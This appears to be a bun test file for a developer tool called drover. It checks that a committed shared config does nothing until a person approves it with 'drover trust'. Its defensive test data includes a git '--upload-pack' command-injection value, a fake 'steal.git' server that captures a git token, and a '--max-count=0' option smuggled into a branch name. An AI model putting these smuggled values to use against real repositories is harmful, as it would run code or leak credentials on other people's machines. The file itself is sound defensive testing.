/**
 * Shared config is data until this machine trusts it (SPEC §12). A committed `.drover/config.toml` whose values
 * would run a command, send DROVER_GIT_TOKEN elsewhere or let git delete unmerged commits does nothing until
 * `drover trust` on this machine — and says so in one line naming that command.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { bareRepo } from "./git-server.ts";
import { api, BUN, CLI, cli, startDaemonProcess, tempProject, wsClient } from "./helpers.ts";

const sh = (cwd: string, ...args: string[]) => execFileSync("git", args, { cwd, encoding: "utf8" }).trim();

/** A listener on 127.0.0.1 that answers 401 to everything and records the Authorization headers it was sent. */
function catcher(): { url: string; seen: string[]; stop(): void } {
  const seen: string[] = [];
  const server = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch(req) {
      seen.push(req.headers.get("authorization") ?? "(none)");
      return new Response("no", { status: 401, headers: { "www-authenticate": 'Basic realm="x"' } });
    },
  });
  return { url: `http://127.0.0.1:${server.port}`, seen, stop: () => void server.stop(true) };
}

describe("a committed hub.remote that runs a command (--upload-pack) is never used", () => {
  let dir: string;
  let origin: { root: string; path: string };
  // no "/" in it, or drover's old check took it for a remote name; git runs it in the hub's git folder
  const hostile = "--upload-pack=touch${IFS}PWNED;x@y:";
  const pwned = () => execFileSync("find", [dir, "-name", "PWNED"], { encoding: "utf8" }).trim();

  beforeAll(() => {
    dir = realpathSync(mkdtempSync(join(tmpdir(), "drover-trust-")));
    origin = bareRepo();
    // the team's repository, with the hostile config committed by someone who can push
    const author = join(dir, "author");
    execFileSync("git", ["clone", "-q", origin.path, author]);
    execFileSync("mkdir", ["-p", join(author, ".drover")]);
    writeFileSync(join(author, ".drover", "config.toml"), `[hub]\nremote = "${hostile}"\nsync_interval_secs = 1\n`);
    sh(author, "add", "-f", ".drover/config.toml");
    sh(author, "-c", "user.name=a", "-c", "user.email=a@x", "commit", "-qm", "team config");
    sh(author, "push", "-q", "origin", "HEAD:refs/heads/main");
  });
  afterAll(() => {
    rmSync(dir, { recursive: true, force: true });
    rmSync(origin.root, { recursive: true, force: true });
  });

  test("not on init right after a clone, not on sync now, not by the daemon's periodic sync; one line names drover trust", async () => {
    const clone = join(dir, "clone");
    execFileSync("git", ["clone", "-q", "-b", "main", origin.path, clone]);
    const init = await cli(["init"], clone);
    expect(init.code).toBe(0);
    expect(init.stderr).toContain('"hub.remote" in');
    expect(init.stderr).toContain('run "drover trust"');
    const now = await cli(["sync", "now"], clone);
    expect([0, 1]).toContain(now.code);
    const status = await cli(["status"], clone);
    expect(status.stdout).toMatch(/trust\s+"hub.remote" waits for approval: run "drover trust"/);
    const doctor = await cli(["doctor", "--json"], clone);
    expect(JSON.parse(doctor.stdout).find((c: { check: string }) => c.check === "trust")).toMatchObject({ ok: false });
    const paths = (await import("../core/paths.ts")).pathsFor(clone);
    const daemon = await startDaemonProcess([BUN, CLI], paths);
    try {
      await Bun.sleep(2500); // two sync intervals of the periodic round
      expect((await api(daemon.url, daemon.token, "/api/config")).body.untrusted).toEqual([
        { key: "hub.remote", value: hostile, using: "origin" },
      ]);
    } finally {
      await daemon.stop();
    }
    expect(pwned()).toBe("");
    // approved by a person, it is still refused before it reaches git's command line
    const approve = await cli(["trust", "--yes"], clone);
    expect(approve.code).toBe(0);
    const refused = await cli(["sync", "now"], clone);
    expect(refused.code).toBe(2);
    expect(refused.stderr.trim()).toBe(`drover: Invalid "hub.remote": "${hostile}" starts with "-"`);
    expect(pwned()).toBe("");
  }, 60_000);
});

describe("drover trust", () => {
  let project: Awaited<ReturnType<typeof tempProject>>;
  beforeAll(async () => {
    project = await tempProject({
      config: '[hub]\nremote = ""\n[pipeline]\nbase_branch = "release"\nauto_assign = false\n',
    });
  });
  afterAll(() => project.cleanup());

  test("without a terminal and without --yes it approves nothing and names the command; --yes approves the exact content", async () => {
    const refused = await cli(["trust"], project.dir);
    expect(refused.code).toBe(2);
    expect(refused.stderr.trim().split("\n").at(-1)).toBe(
      'drover: 1 value(s) wait for approval: run "drover trust --yes" to approve them without a prompt',
    );
    expect((await cli(["config", "status", "--json"], project.dir)).stdout).toContain('"key": "pipeline.base_branch"');
    const yes = await cli(["trust", "--yes"], project.dir);
    expect(yes.code).toBe(0);
    expect(yes.stdout).toContain('Approved "pipeline.base_branch"');
    expect(JSON.parse((await cli(["config", "status", "--json"], project.dir)).stdout).untrusted).toEqual([]);
    // another value in the committed file is another content: it waits again, the approved one stays in force
    await Bun.write(
      project.paths.config,
      '[hub]\nremote = ""\n[pipeline]\nbase_branch = "main"\nauto_assign = false\n',
    );
    expect(JSON.parse((await cli(["config", "status", "--json"], project.dir)).stdout).untrusted).toEqual([
      { key: "pipeline.base_branch", value: "main", using: "release" },
    ]);
  });

  test("a running daemon takes an approval within seconds and announces what waits (config_untrusted)", async () => {
    await Bun.write(
      project.paths.config,
      '[hub]\nremote = ""\n[pipeline]\nbase_branch = "next"\nauto_assign = false\n',
    );
    const daemon = await startDaemonProcess([BUN, CLI], project.paths);
    const client = await wsClient(daemon.url, daemon.token);
    try {
      expect((await api(daemon.url, daemon.token, "/api/config")).body.untrusted).toHaveLength(1);
      expect((await cli(["trust", "--yes"], project.dir)).code).toBe(0);
      // one event says what is in force changed: features that act on approved values (runners, the relay) follow it
      expect(await client.waitFor((f) => f.type === "config_retrusted")).toMatchObject({ waiting: [] });
      expect((await api(daemon.url, daemon.token, "/api/config")).body.untrusted).toEqual([]);
    } finally {
      client.close();
      await daemon.stop();
    }
  });

  test("approving is not an op: nothing a token holder can call over HTTP or MCP approves", async () => {
    const { allFeatures } = await import("../runtime.ts");
    const ops = allFeatures.flatMap((f) => Object.keys(f.ops ?? {}));
    expect(ops.filter((n) => /trust|approve/.test(n))).toEqual([]);
  });
});

describe("credentials go only to the trusted remote", () => {
  test("a committed http hub.remote never receives DROVER_GIT_TOKEN until approved", async () => {
    const evil = catcher();
    const project = await tempProject({
      config: `[hub]\nremote = "${evil.url}/steal.git"\n[pipeline]\nauto_assign = false\n`,
    });
    try {
      const env = { DROVER_GIT_TOKEN: "s3cret-token" };
      await cli(["sync", "now"], project.dir, env);
      await cli(["item", "claim", "--id", "zzzzz", "--agent", "a"], project.dir, env);
      expect(evil.seen).toEqual([]);
      expect((await cli(["trust", "--yes"], project.dir)).code).toBe(0);
      await cli(["sync", "now"], project.dir, env);
      // once a person approved that remote, it is where the hub goes, with the token
      expect(
        evil.seen.some(
          (h) => h.startsWith("Basic ") && Buffer.from(h.slice(6), "base64").toString().endsWith(":s3cret-token"),
        ),
      ).toBe(true);
    } finally {
      evil.stop();
      project.cleanup();
    }
  });

  test("a trusted remote that redirects elsewhere is not followed with the token", async () => {
    const evil = catcher();
    const bouncer = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: (req) => Response.redirect(evil.url + new URL(req.url).pathname + new URL(req.url).search, 302),
    });
    const project = await tempProject({
      config: `[hub]\nremote = "http://127.0.0.1:${bouncer.port}/hub.git"\n[pipeline]\nauto_assign = false\n`,
    });
    try {
      await cli(["trust", "--yes"], project.dir);
      const round = await cli(["sync", "now"], project.dir, { DROVER_GIT_TOKEN: "s3cret-token" });
      expect(round.code).not.toBe(0);
      expect(round.stderr).toContain("another origin");
      expect(evil.seen).toEqual([]);
    } finally {
      evil.stop();
      bouncer.stop(true);
      project.cleanup();
    }
  });
});

describe("a committed base_branch that reads as an option cannot make unmerged work look merged", () => {
  test('"--max-count=0": ignored until trusted, refused before git once trusted; the unmerged branch survives', async () => {
    const project = await tempProject({
      config: '[hub]\nremote = ""\n[pipeline]\nauto_assign = false\nbase_branch = "--max-count=0"\n',
    });
    try {
      const git = (...args: string[]) => sh(project.dir, "-c", "user.name=t", "-c", "user.email=t@x", ...args);
      git("commit", "-q", "--allow-empty", "-m", "base");
      for (const trusted of [false, true]) {
        if (trusted) expect((await cli(["trust", "--yes"], project.dir)).code).toBe(0);
        const item = JSON.parse(
          (await cli(["item", "create", "--title", `work ${trusted}`, "--json"], project.dir)).stdout,
        );
        const start = await cli(["item", "start", "--id", item.id, "--agent", "a", "--json"], project.dir);
        if (trusted) {
          expect(start.stderr).toContain(
            'Invalid "pipeline.base_branch": "--max-count=0" is not a branch name git accepts',
          );
          continue;
        }
        const { path } = JSON.parse(start.stdout);
        writeFileSync(join(path, "work.txt"), "precious");
        sh(path, "add", "work.txt");
        sh(path, "-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "unmerged work");
        for (const to of ["qa", "merge", "done"]) await cli(["item", "move", "--id", item.id, "--to", to], project.dir);
        await cli(["reconcile"], project.dir);
        expect(sh(project.dir, "rev-parse", "--verify", `refs/heads/drover/item/${item.id}`)).toMatch(/^[0-9a-f]{40}$/);
        expect(existsSync(join(path, "work.txt"))).toBe(true);
      }
    } finally {
      project.cleanup();
    }
  }, 60_000);
});
